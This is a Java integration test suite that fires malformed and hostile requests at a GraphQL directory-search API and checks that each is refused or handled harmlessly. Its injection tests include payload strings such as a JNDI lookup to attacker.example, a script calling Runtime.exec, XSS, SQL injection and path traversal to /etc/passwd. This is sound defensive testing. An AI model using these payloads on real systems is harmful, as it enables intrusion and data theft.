package de.netzwerkiq.directory.api.hostile;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import co.elastic.clients.elasticsearch.ElasticsearchClient;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import de.netzwerkiq.directory.api.support.ApiIntegrationTest;
import de.netzwerkiq.directory.api.support.SearchCount;
import de.netzwerkiq.directory.indexer.index.IndexNames;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Malformed and hostile HTTP requests, sent as raw bytes with the JDK's client so nothing
 * tidies them up on the way. Whatever arrives, the API answers within two seconds, never
 * with a 5xx, and says what is wrong: GraphQL errors with a message (none of them an
 * INTERNAL_ERROR), or a 4xx from the HTTP layer. Requests that are refused (unreadable,
 * invalid, over a limit, with a bad argument) must not reach Elasticsearch: its search
 * count does not move. Hostile text in a valid search does reach it and must come back as
 * an ordinary answer.
 */
@ApiIntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputIntegrationTests {

	private static final ObjectMapper JSON = new ObjectMapper();

	/** A query that searches if it is ever executed. */
	private static final String SEARCH = "{ adviceCentres(first: 1) { totalCount } }";

	/** A full-text search with highlights, the text passed as a variable. */
	private static final String TEXT_SEARCH = "query($t: String) { adviceCentres(text: $t, first: 3) "
			+ "{ totalCount edges { node { slug } highlights { fragments } } } }";

	/** One page after a cursor passed as a variable. */
	private static final String AFTER = "query($a: String) { adviceCentres(first: 1, after: $a) { totalCount } }";

	private final HttpClient http = HttpClient.newBuilder()
		.version(HttpClient.Version.HTTP_1_1)
		.connectTimeout(Duration.ofSeconds(5))
		.build();

	@LocalServerPort
	private int port;

	@Autowired
	private ElasticsearchClient elasticsearch;

	@Autowired
	private IndexNames names;

	@BeforeAll
	void warmUp() throws Exception {
		// The first search after the sample content is indexed can be slow on a busy
		// machine; the two-second bound is about hostile input, not a cold index.
		send(graphQl(TEXT_SEARCH, "{\"t\":\"Beratung\"}"));
	}

	/**
	 * Found by a hostile corpus: 200 combining marks on one letter cost 0.5 to 0.6 s, 20
	 * times a typed search, and one 200-letter word failed in the decompounder. Compared
	 * with a typed text in the same run (medians of five), so a busy machine slows both.
	 */
	@org.junit.jupiter.api.Test
	void aHostileTextCostsAboutWhatATypedTextCosts() throws Exception {
		long typed = medianMillis("Anerkennung Beratung Pflegefachkraft Berlin");
		for (String text : java.util.List.of("a" + "\u0301".repeat(199), "\u0301".repeat(200), "Beratung".repeat(25),
				"ab".repeat(100), "Beratung ".repeat(22).strip(),
				"Xqzvwjk Qpzzv Anerkennungsberatungsstelle ".repeat(4),
				"Donaudampfschifffahrtsgesellschaftskapitän".repeat(4))) {
			assertThat(medianMillis(text))
				.as("milliseconds for %s…, a typed text took %d", text.substring(0, 12), typed)
				.isLessThan(3 * typed + 150);
		}
		// Words no record has, more than a text keeps: every step for an empty answer
		// runs for each (typos, relaxing, the words as starts of longer ones). Twenty
		// took 1.5 s, 15 to 30 typed searches; typos in every text for the first five
		// words only brought it to about 10 to 17 (a CI run at 485 ms failed the
		// bound), keeping ten words to about 5.
		String unknown = java.util.stream.IntStream.range(0, 24)
			.mapToObj((i) -> "Xqz" + (char) ('a' + i) + "v" + i)
			.collect(java.util.stream.Collectors.joining(" "));
		assertThat(medianMillis(unknown)).as("milliseconds for unknown words, a typed text took %d", typed)
			.isLessThan(10 * typed + 200);
	}

	private long medianMillis(String text) throws Exception {
		long[] millis = new long[5];
		for (int i = 0; i < millis.length; i++) {
			long started = System.nanoTime();
			HttpResponse<byte[]> response = send(textSearch(text));
			millis[i] = (System.nanoTime() - started) / 1_000_000;
			JsonNode body = JSON.readTree(response.body());
			assertThat(body.path("errors").isMissingNode()).as("no errors in %s", body).isTrue();
		}
		java.util.Arrays.sort(millis);
		return millis[millis.length / 2];
	}

	@AfterAll
	void theServiceStillAnswersAnOrdinaryQuery() throws Exception {
		HttpResponse<byte[]> response = send(graphQl(SEARCH));
		assertThat(response.statusCode()).isEqualTo(200);
		JsonNode body = JSON.readTree(response.body());
		assertThat(body.path("errors").isMissingNode()).as("no errors in %s", body).isTrue();
		assertThat(body.at("/data/adviceCentres/totalCount").asInt()).isPositive();
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void invalidJsonBodies(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> invalidJsonBodies() {
		return Stream.of(neverSearched("truncated object", postJson("{\"query\":" + quote(SEARCH)), httpStatus(400)),
				neverSearched("truncated inside a string", postJson("{\"query\":\"{ adviceCentres(first: 1) { tot"),
						httpStatus(400)),
				neverSearched("a lone opening brace", postJson("{"), httpStatus(400)),
				// Jackson reads one value and ignores the rest: the smuggled second
				// request must not run.
				neverSearched("a second request smuggled after the first",
						postJson(body("{ __typename }") + body(SEARCH)), answered()),
				neverSearched("a batch (top-level array)", postJson("[" + body(SEARCH) + "]"), httpStatus(400)),
				neverSearched("an empty array", postJson("[]"), httpStatus(400)),
				neverSearched("a number", postJson("42"), httpStatus(400)),
				neverSearched("a string", postJson(quote(SEARCH)), httpStatus(400)),
				// Read as no request at all: a 400, not the NullPointerException it leads
				// to when nothing checks for it.
				neverSearched("null", postJson("null"), httpStatus(400)),
				// Found by the fuzzer: Jackson reads the null and stops, whatever
				// follows.
				neverSearched("null followed by other bytes", postJson("null\n\u00bc"), httpStatus(400)),
				neverSearched("null after much whitespace", postJson(" ".repeat(500) + "null"), httpStatus(400)),
				neverSearched("an empty body", postJson(""), httpStatus(400)),
				neverSearched("only whitespace", postJson(" \n\t "), httpStatus(400)),
				// A byte order mark is legal in front of UTF-8 JSON.
				neverSearched("a byte order mark", postJson(bytes(raw(0xEF, 0xBB, 0xBF), body("{ __typename }"))),
						answered()),
				neverSearched("single quotes", postJson("{'query':'" + SEARCH + "'}"), httpStatus(400)),
				neverSearched("a comment", postJson("{/* hi */\"query\":" + quote(SEARCH) + "}"), httpStatus(400)),
				neverSearched("a raw line break inside a string",
						postJson("{\"query\":\"{ adviceCentres(first: 1)\n{ totalCount } }\"}"), httpStatus(400)),
				neverSearched("an invalid escape", postJson("{\"query\":\"\\x7b __typename }\"}"), httpStatus(400)),
				neverSearched("variables nested 2000 deep",
						postJson(body(SEARCH, "{\"a\":" + "[".repeat(2000) + "]".repeat(2000) + "}")), httpStatus(400)),
				// Jackson keeps the last of duplicate keys; the first would search.
				neverSearched("a duplicate query key",
						postJson("{\"query\":" + quote(SEARCH) + ",\"query\":\"{ nope }\"}"), graphQlErrors()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void contentTypesAndMethods(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> contentTypesAndMethods() {
		// Every body here would search if the API read it as GraphQL over HTTP.
		byte[] json = utf8(body(SEARCH));
		String boundary = "----hostile";
		byte[] multipart = utf8("--" + boundary + "\r\nContent-Disposition: form-data; name=\"query\"\r\n\r\n" + SEARCH
				+ "\r\n--" + boundary + "--\r\n");
		return Stream.of(neverSearched("text/plain", post("text/plain", json), httpStatus(415)),
				neverSearched("a form",
						post("application/x-www-form-urlencoded",
								utf8("query=" + URLEncoder.encode(SEARCH, StandardCharsets.UTF_8))),
						httpStatus(415)),
				neverSearched("multipart", post("multipart/form-data; boundary=" + boundary, multipart),
						httpStatus(415)),
				neverSearched("XML", post("application/xml", utf8("<query>" + SEARCH + "</query>")), httpStatus(415)),
				neverSearched("no content type", post(null, json), httpStatus(415)),
				neverSearched("application/graphql with a bare document", post("application/graphql", utf8(SEARCH)),
						httpStatus(415)),
				neverSearched("an unknown charset", post("application/json; charset=nonsense", json), httpStatus(415)),
				neverSearched("an unparseable content type", post("!!!", json), httpStatus(415)),
				neverSearched("accepting only HTML", post("application/json", json).with("Accept", "text/html"),
						httpStatus(415)),
				neverSearched("an unparseable Accept header", post("application/json", json).with("Accept", "!!!"),
						httpStatus(406)),
				neverSearched("PUT", post("application/json", json).as("PUT"), httpStatus(404)),
				neverSearched("DELETE", post("application/json", json).as("DELETE"), httpStatus(404)),
				neverSearched("PATCH", post("application/json", json).as("PATCH"), httpStatus(404)),
				neverSearched("OPTIONS without CORS headers", post("application/json", json).as("OPTIONS"),
						httpStatus(404)),
				neverSearched("an invented method", post("application/json", json).as("FROBNICATE"), httpStatus(400)),
				// A key that is wrong is refused before the request is read.
				neverSearched("a wrong editor key",
						post("application/json", json).with("Authorization", "Bearer not-the-key"),
						graphQlErrors(401)));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void malformedRequests(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> malformedRequests() {
		String twoOperations = "query A " + SEARCH + " query B " + SEARCH;
		return Stream.of(
				// Refused with a message, not read as the document "42" (GraphQL over
				// HTTP).
				neverSearched("query is a number", postJson("{\"query\":42}"), graphQlErrors(400)),
				neverSearched("query is a boolean", postJson("{\"query\":true}"), graphQlErrors(400)),
				neverSearched("query is false", postJson("{\"query\":false}"), graphQlErrors(400)),
				neverSearched("query is a float", postJson("{\"query\":1.5e3}"), graphQlErrors(400)),
				neverSearched("query is an object", postJson("{\"query\":{\"q\":" + quote(SEARCH) + "}}"),
						graphQlErrors(400)),
				neverSearched("query is an array", postJson("{\"query\":[" + quote(SEARCH) + "]}"), graphQlErrors(400)),
				neverSearched("query is null", postJson("{\"query\":null}"), httpStatus(400)),
				neverSearched("no query", postJson("{\"variables\":{}}"), httpStatus(400)),
				neverSearched("an empty query", postJson("{\"query\":\"\"}"), graphQlErrors()),
				neverSearched("a blank query", postJson("{\"query\":\" \\n \"}"), graphQlErrors()),
				neverSearched("variables is an array", postJson(body(SEARCH, "[1]")), graphQlErrors(400)),
				neverSearched("variables is a string", postJson(body(SEARCH, "\"first=1\"")), graphQlErrors(400)),
				neverSearched("variables is a number", postJson(body(SEARCH, "1")), graphQlErrors(400)),
				neverSearched("operationName is a number",
						postJson("{\"query\":" + quote(SEARCH) + ",\"operationName\":42}"), graphQlErrors(400)),
				neverSearched("operationName is a boolean",
						postJson("{\"query\":" + quote(SEARCH) + ",\"operationName\":false}"), graphQlErrors(400)),
				neverSearched("operationName is an object",
						postJson("{\"query\":" + quote(SEARCH) + ",\"operationName\":{}}"), graphQlErrors(400)),
				neverSearched("an unknown operationName",
						postJson("{\"query\":" + quote(twoOperations) + ",\"operationName\":\"C\"}"), graphQlErrors()),
				neverSearched("two named operations without operationName", graphQl(twoOperations), graphQlErrors()),
				neverSearched("two anonymous operations", graphQl(SEARCH + " " + SEARCH), graphQlErrors()),
				neverSearched("extensions is a number", postJson("{\"query\":" + quote(SEARCH) + ",\"extensions\":5}"),
						graphQlErrors(400)),
				neverSearched("a persisted-query hash without its document",
						postJson("{\"extensions\":{\"persistedQuery\":{\"version\":1,\"sha256Hash\":\"" + "0".repeat(64)
								+ "\"}}}"),
						graphQlErrors()),
				neverSearched("a persisted-query hash that is a number",
						postJson("{\"extensions\":{\"persistedQuery\":{\"version\":1,\"sha256Hash\":5}}}"),
						graphQlErrors()),
				neverSearched("a subscription (the schema has none)",
						graphQl("subscription { adviceCentres(first: 1) { totalCount } }"), graphQlErrors()),
				neverSearched("a mutation without an editor key",
						graphQl("mutation { reindex(kind: CURRICULA) { id } }"), graphQlErrors()),
				neverSearched("a variable of an unknown type",
						graphQl("query($f: Nope) { adviceCentres(first: $f) { totalCount } }"), graphQlErrors()),
				neverSearched("a required variable left out",
						graphQl("query($f: Int!) { adviceCentres(first: $f) { totalCount } }"), graphQlErrors()),
				// With the GraphQL-over-HTTP media type, not executing means a 400.
				neverSearched("a syntax error answered as application/graphql-response+json",
						graphQl("{ adviceCentres(first: 1) { totalCount }").with("Accept",
								"application/graphql-response+json"),
						graphQlErrors(400)));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void oversizedDocumentsAndBodies(String name, Probe probe, Expected expected, boolean neverSearched)
			throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> oversizedDocumentsAndBodies() {
		String languages = IntStream.range(0, 10_000)
			.mapToObj((i) -> (i < 9_999) ? "\"de\"" : "\"x1\"")
			.collect(Collectors.joining(",", "{\"l\":[", "]}"));
		return Stream.of(
				neverSearched("a 33 KB document", graphQl(SEARCH + "\n#" + "x".repeat(33 * 1024)), graphQlErrors()),
				neverSearched("a document one byte over 32 KB",
						graphQl(SEARCH + "\n#" + "x".repeat(32 * 1024 - SEARCH.length() - 1)), graphQlErrors()),
				// 11,000 characters but 33,000 bytes: the limit counts bytes.
				neverSearched("a document of three-byte characters", graphQl(SEARCH + "\n#" + "€".repeat(11_000)),
						graphQlErrors()),
				neverSearched("a 100 KB document of whitespace", graphQl(SEARCH + " ".repeat(100 * 1024)),
						graphQlErrors()),
				neverSearched("a 40 KB string literal",
						graphQl("{ adviceCentres(text: \"" + "a".repeat(40 * 1024) + "\", first: 1) { totalCount } }"),
						graphQlErrors()),
				// graphql-java stops parsing after 15,000 tokens.
				neverSearched("15,500 tokens in 31 KB", graphQl("{ " + "x ".repeat(15_500) + "}"), graphQlErrors()),
				// Field merging must stay fast; the cost then refuses it.
				neverSearched("6,000 identical fields",
						graphQl("{ adviceCentres(first: 100) { edges { node { " + "slug ".repeat(6_000) + "} } } }"),
						graphQlErrors()),
				neverSearched("a 10,000-element list variable with one bad element",
						graphQl("query($l: [String!]) { adviceCentres(first: 1, filter: { languages: $l }) "
								+ "{ totalCount } }", languages),
						graphQlErrors()),
				neverSearched("a 257 KB body", graphQl(SEARCH, "{\"pad\":\"" + "x".repeat(257 * 1024) + "\"}"),
						graphQlErrors(413)),
				neverSearched("a 1 MB body", graphQl(SEARCH, "{\"pad\":\"" + "x".repeat(1024 * 1024) + "\"}"),
						graphQlErrors(413)),
				// Without a declared length the body is cut off at the limit while read.
				neverSearched("a 300 KB chunked body",
						graphQl(SEARCH, "{\"pad\":\"" + "x".repeat(300 * 1024) + "\"}").chunked(), httpStatus(400)));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void deepNesting(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> deepNesting() {
		// The schema has no recursive types: past its deepest path a selection names
		// fields that do not exist, and graphql-java's parser stops at 500 nested rules.
		return Stream.of(
				neverSearched("depth 11 below the deepest real path",
						graphQl(centres("offices { address { a { b { c { d { e { f } } } } } } }")), graphQlErrors()),
				neverSearched("depth 11 through a scalar",
						graphQl(centres("offices { location { lat { a { b { c { d { e } } } } } } }")),
						graphQlErrors()),
				neverSearched("depth 12", graphQl(nested(12)), graphQlErrors()),
				neverSearched("depth 50", graphQl(nested(50)), graphQlErrors()),
				neverSearched("depth 100", graphQl(nested(100)), graphQlErrors()),
				neverSearched("depth 1000", graphQl(nested(1000)), graphQlErrors()),
				neverSearched("depth 5000", graphQl(nested(5000)), graphQlErrors()),
				neverSearched("a list literal 1000 deep",
						graphQl("{ adviceCentres(first: 1, filter: { languages: " + "[".repeat(1000) + "\"de\""
								+ "]".repeat(1000) + " }) { totalCount } }"),
						graphQlErrors()),
				neverSearched("an object literal 1000 deep",
						graphQl("{ adviceCentres(first: 1, near: " + "{ point: ".repeat(1000) + "1" + " }".repeat(1000)
								+ ") { totalCount } }"),
						graphQlErrors()),
				neverSearched("inline fragments 1000 deep",
						graphQl("{ " + "... on Query { ".repeat(1000) + "adviceCentres(first: 1) { totalCount } "
								+ "} ".repeat(1000) + "}"),
						graphQlErrors()),
				// Introspection is not counted by our depth limit; graphql-java's
				// good-faith check bounds it.
				neverSearched("an introspection cycle",
						graphQl("{ __schema { types { fields { type { fields { type { fields { name } } } } } } } }"),
						graphQlErrors()),
				neverSearched("ofType 100 deep", graphQl(
						"{ __type(name: \"Query\") { " + "ofType { ".repeat(100) + "name " + "} ".repeat(100) + "} }"),
						graphQlErrors()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void aliasFloods(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> aliasFloods() {
		String nearest = numbered("n#: nearestAdviceCentres(near: { lat: 52.5, lon: 13.4 }) { distanceMeters }", 100);
		String twoSearches = "{ a: adviceCentres(first: 1) { totalCount } a: adviceCentres(first: 2) { totalCount } }";
		return Stream
			.of(neverSearched("31 aliases", graphQl(centres(numbered("s#: slug", 31))), graphQlErrors()),
					neverSearched("1,000 aliases", graphQl(centres(numbered("s#: slug", 1000))), graphQlErrors()),
					neverSearched("1,500 aliased __typename at the root",
							graphQl("{ " + numbered("t#: __typename", 1500) + " }"), graphQlErrors()),
					// Aliases are how one request would run many searches.
					neverSearched("31 aliased searches",
							graphQl("{ " + numbered("a#: adviceCentres(first: 1) { totalCount }", 31) + " }"),
							graphQlErrors()),
					neverSearched("700 aliased searches",
							graphQl("{ " + numbered("a#: search { totalCount }", 700) + " }"), graphQlErrors()),
					neverSearched("100 aliased nearest searches", graphQl("{ " + nearest + " }"), graphQlErrors()),
					neverSearched("31 aliased __schema",
							graphQl("{ " + numbered("s#: __schema { queryType { name } }", 31) + " }"),
							graphQlErrors()),
					neverSearched("one alias for two different searches", graphQl(twoSearches), graphQlErrors()),
					neverSearched("an alias hiding a different field", graphQl(centres("slug: provider slug")),
							graphQlErrors()),
					neverSearched("aliases multiplied by fragment uses",
							graphQl(centres("... on AdviceCentre { ...F } ".repeat(10))
									+ " fragment F on AdviceCentre { a: slug b: slug c: slug d: slug }"),
							graphQlErrors()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void fragmentFloods(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> fragmentFloods() {
		String manyFragments = IntStream.rangeClosed(1, 500)
			.mapToObj((i) -> "fragment F" + i + " on AdviceCentre { slug }")
			.collect(Collectors.joining(" "));
		return Stream.of(
				neverSearched("2^30 expansion", graphQl(doubling(30, "AdviceCentre", "", "slug")), graphQlErrors()),
				// Past 2^63 the measure must saturate, not wrap round to a small cost.
				neverSearched("2^64 expansion", graphQl(doubling(64, "AdviceCentre", "", "slug")), graphQlErrors()),
				neverSearched("2^30 expansion of aliases", graphQl(doubling(30, "AdviceCentre", "", "a: slug")),
						graphQlErrors()),
				neverSearched("2^30 expansion of directives",
						graphQl(doubling(30, "AdviceCentre", " @include(if: true)", "slug")), graphQlErrors()),
				neverSearched(
						"2^30 expansion of searches at the root", graphQl(doublingAtTheRoot(30)), graphQlErrors()),
				neverSearched("10^10 expansion", graphQl(tenfold(10)), graphQlErrors()),
				neverSearched("a cycle of two fragments",
						graphQl(centres("...A")
								+ " fragment A on AdviceCentre { ...B } fragment B on AdviceCentre { ...A }"),
						graphQlErrors()),
				neverSearched("a fragment spreading itself",
						graphQl(centres("...A") + " fragment A on AdviceCentre { slug ...A }"), graphQlErrors()),
				neverSearched("an undefined fragment", graphQl(centres("...Nope")), graphQlErrors()),
				neverSearched("an unused fragment", graphQl(SEARCH + " fragment A on AdviceCentre { slug }"),
						graphQlErrors()),
				neverSearched("500 distinct fragments",
						graphQl("{ adviceCentres(first: 100) { edges { node { " + numbered("...F#", 500) + " } } } } "
								+ manyFragments),
						graphQlErrors()),
				neverSearched("a fragment spread on the wrong type",
						graphQl(centres("...C") + " fragment C on Curriculum { slug }"), graphQlErrors()),
				neverSearched("a fragment on an unknown type",
						graphQl(centres("...X") + " fragment X on Nope { slug }"), graphQlErrors()),
				neverSearched("two fragments of one name",
						graphQl(centres("...A")
								+ " fragment A on AdviceCentre { slug } fragment A on AdviceCentre { id }"),
						graphQlErrors()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void directiveFloods(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> directiveFloods() {
		return Stream.of(
				neverSearched("51 @include", graphQl(centres("slug @include(if: true) ".repeat(51))), graphQlErrors()),
				neverSearched("1,000 @include on separate fields",
						graphQl(centres("slug @include(if: true) ".repeat(1000))), graphQlErrors()),
				neverSearched("1,000 @skip on one field", graphQl(centres("slug" + " @skip(if: false)".repeat(1000))),
						graphQlErrors()),
				neverSearched("60 @include on fragment spreads",
						graphQl(centres("...F @include(if: true) ".repeat(60))
								+ " fragment F on AdviceCentre { slug }"),
						graphQlErrors()),
				neverSearched("800 @include on inline fragments",
						graphQl(centres("... @include(if: true) { slug } ".repeat(800))), graphQlErrors()),
				neverSearched("51 @include of a variable",
						graphQl("query($v: Boolean!) " + centres("slug @include(if: $v) ".repeat(51)), "{\"v\":true}"),
						graphQlErrors()),
				neverSearched("an unknown directive", graphQl(centres("slug @nope")), graphQlErrors()),
				neverSearched("@include on the operation", graphQl("query @include(if: true) " + SEARCH),
						graphQlErrors()),
				neverSearched("@include(if: \"yes\")", graphQl(centres("slug @include(if: \"yes\")")), graphQlErrors()),
				neverSearched("@include without its argument", graphQl(centres("slug @include")), graphQlErrors()),
				neverSearched("@skip of an undefined variable", graphQl(centres("slug @skip(if: $nope)")),
						graphQlErrors()),
				neverSearched("@deprecated in a query", graphQl(centres("slug @deprecated")), graphQlErrors()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void injectionInText(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> injectionInText() {
		// Text goes into a multi_match query as a value, never as query syntax: each
		// of these is an ordinary search for odd words.
		return Stream.of(searched("query_string syntax", textSearch("title:* OR *")),
				searched("match everything", textSearch("*:*")), searched("closing the JSON", textSearch("\"}}]}")),
				searched("a script query",
						textSearch(
								"{\"script\":{\"source\":\"Runtime.getRuntime().exec('id')\",\"lang\":\"painless\"}}")),
				searched("a match_all query", textSearch("{\"query\":{\"match_all\":{}}}")),
				searched("a script tag", textSearch("<script>alert(1)</script>")),
				searched("an HTML attribute break-out", textSearch("\"><img src=x onerror=alert(1)>")),
				searched("SQL", textSearch("'; DROP TABLE advice_centres; --")),
				searched("SQL tautology", textSearch("' OR '1'='1")),
				searched("a JNDI lookup", textSearch("${jndi:ldap://attacker.example/a}")),
				searched("path traversal", textSearch("../../../../etc/passwd")),
				searched("CRLF and a header", textSearch("Beratung\r\nSet-Cookie: hacked=1\r\n\r\n<script>x</script>")),
				searched("every Lucene operator", textSearch("+ - && || ! ( ) { } [ ] ^ \" ~ * ? : \\ /")),
				searched("a regular expression and fuzziness", textSearch("/.*/ Beratung~100 ^1000")),
				searched("template expressions", textSearch("{{7*7}} #{7*7} <%= 7*7 %>")),
				searched("200 wildcards", textSearch("*".repeat(200))),
				// What the text is read into: stop words, towns, concept names,
				// relaxation.
				searched("only stop words in three languages", textSearch("und die der the of и в")),
				searched("twenty-five town names", textSearch("Köln Berlin Hamburg München Essen ".repeat(5).strip())),
				searched("a town with apostrophes", textSearch("Köln'''de ''' 'Köln")),
				searched("every concept at once", textSearch(
						"Existenzgründung Deutschkurs Mindestlohn Anerkennung Businessplan Steuern Brückenkurs Coaching")),
				searched("twenty-eight words no record has", textSearch("Xqzvwjk Qpzzv ".repeat(14).strip())),
				searched("Arabic tatweel and marks", textSearch("تـــأسيــس شَرِكَة")),
				searched("a half space alone", textSearch("\u200C \u200C")),
				searched("a script tag in a document literal",
						graphQl("{ adviceCentres(text: \"<script>alert(\\\"x\\\")</script>\", first: 3) "
								+ "{ edges { highlights { fragments } } } }")),
				searched("query_string syntax in a suggestion",
						graphQl("query($p: String!) { suggest(prefix: $p) { titles { text } places { name } } }",
								"{\"p\":\"title:* OR <script>\"}")),
				// Over the length limit the text is refused before searching.
				neverSearched("201 characters", textSearch("a".repeat(201)), graphQlErrors()),
				neverSearched("150 emoji (300 UTF-16 units)", textSearch("😀".repeat(150)), graphQlErrors()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void invalidUnicode(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> invalidUnicode() {
		// JSON escapes (backslash, u, four hex digits) can name half a surrogate pair;
		// Jackson accepts them, so the text reaches Elasticsearch and must not break it.
		return Stream.of(searched("a lone high surrogate", graphQl(TEXT_SEARCH, "{\"t\":\"a\\ud800b\"}")),
				searched("a lone low surrogate", graphQl(TEXT_SEARCH, "{\"t\":\"a\\udc00b\"}")),
				searched("a surrogate pair the wrong way round", graphQl(TEXT_SEARCH, "{\"t\":\"\\udc00\\ud800\"}")),
				searched("a NUL character", graphQl(TEXT_SEARCH, "{\"t\":\"Beratung\\u0000Berlin\"}")),
				searched("a right-to-left override", textSearch("Beratung \u202Egnutareb")),
				searched("noncharacters", textSearch("Beratung \uFFFE\uFFFF")),
				searched("200 combining marks", textSearch("a" + "\u0301".repeat(199))),
				searched("zero-width characters and a byte order mark", textSearch("Be\u200Bra\u200Dtung\uFEFF")),
				// Jackson decodes overlong UTF-8 (here to a slash): a search.
				searched("overlong UTF-8 (two bytes)", textSearch(raw(0xC0, 0xAF))),
				searched("overlong UTF-8 (three bytes)", textSearch(raw(0xE0, 0x80, 0xAF))),
				// Bytes that are no UTF-8 at all make the body unreadable.
				neverSearched("a surrogate encoded as UTF-8", textSearch(raw(0xED, 0xA0, 0x80)), httpStatus(400)),
				neverSearched("an invalid byte", textSearch(raw(0xFF)), httpStatus(400)),
				neverSearched("a truncated multi-byte character", textSearch(raw(0xE2, 0x82)), httpStatus(400)),
				neverSearched("a raw NUL byte", textSearch(raw(0x00)), httpStatus(400)),
				neverSearched("a lone surrogate escaped in GraphQL",
						graphQl("{ adviceCentres(text: \"\\ud800\", first: 1) { totalCount } }"), graphQlErrors()),
				neverSearched("a lone surrogate inside a field name",
						postJson("{\"query\":\"{ adviceCentres(first: 1) { total\\ud800Count } }\"}"), graphQlErrors()),
				neverSearched("a NUL character in the document",
						postJson("{\"query\":\"{ adviceCentres(first: 1) { totalCount } }\\u0000\"}"), graphQlErrors()),
				neverSearched("a right-to-left override in the document",
						graphQl("{ adviceCentres(first: 1) { \u202EtnuoClatot } }"), graphQlErrors()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void absurdNumbers(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> absurdNumbers() {
		String first = "query($f: Int) { adviceCentres(first: $f) { totalCount } }";
		String near = "query($n: NearInput) { adviceCentres(first: 1, near: $n) { totalCount } }";
		return Stream.of(neverSearched("first: 2147483648", graphQl(firstIs("2147483648")), graphQlErrors()),
				neverSearched("first: -1", graphQl(firstIs("-1")), graphQlErrors()),
				neverSearched("first: 0", graphQl(firstIs("0")), graphQlErrors()),
				neverSearched("first: -2147483648", graphQl(firstIs("-2147483648")), graphQlErrors()),
				neverSearched("first: 101", graphQl(firstIs("101")), graphQlErrors()),
				neverSearched("first: 1e309", graphQl(firstIs("1e309")), graphQlErrors()),
				neverSearched("first: a 10,000-digit literal", graphQl(firstIs("9".repeat(10_000))), graphQlErrors()),
				neverSearched("first: \"10\"", graphQl(firstIs("\"10\"")), graphQlErrors()),
				neverSearched("$first = 1e400", graphQl(first, "{\"f\":1e400}"), graphQlErrors()),
				neverSearched("$first = 2147483648", graphQl(first, "{\"f\":2147483648}"), graphQlErrors()),
				neverSearched("$first = \"10\"", graphQl(first, "{\"f\":\"10\"}"), graphQlErrors()),
				neverSearched("$first = 1.5", graphQl(first, "{\"f\":1.5}"), graphQlErrors()),
				// Jackson refuses numbers longer than 1,000 digits.
				neverSearched("$first with 2,000 digits", graphQl(first, "{\"f\":1" + "0".repeat(2_000) + "}"),
						httpStatus(400)),
				neverSearched("radiusKm: NaN", graphQl(
						"{ adviceCentres(first: 1, near: { place: \"Berlin\", radiusKm: NaN }) { totalCount } }"),
						graphQlErrors()),
				neverSearched("$radiusKm = \"NaN\"",
						graphQl(near, "{\"n\":{\"place\":\"Berlin\",\"radiusKm\":\"NaN\"}}"), graphQlErrors()),
				neverSearched("radiusKm: 1e400", graphQl(
						"{ adviceCentres(first: 1, near: { place: \"Berlin\", radiusKm: 1e400 }) { totalCount } }"),
						graphQlErrors()),
				neverSearched("lat: 1e400", graphQl(
						"{ adviceCentres(first: 1, near: { point: { lat: 1e400, lon: 13.4 } }) { totalCount } }"),
						graphQlErrors()),
				neverSearched("$lat = 1e400", graphQl(near, "{\"n\":{\"point\":{\"lat\":1e400,\"lon\":13.4}}}"),
						graphQlErrors()),
				neverSearched("a viewport north of the pole",
						graphQl("{ adviceCentres(first: 1, within: { north: 91, south: 0, east: 10, west: 0 }) "
								+ "{ totalCount } }"),
						graphQlErrors()),
				neverSearched("withinKm: -0.0",
						graphQl("{ nearestAdviceCentres(near: { lat: 52.5, lon: 13.4 }, withinKm: -0.0) "
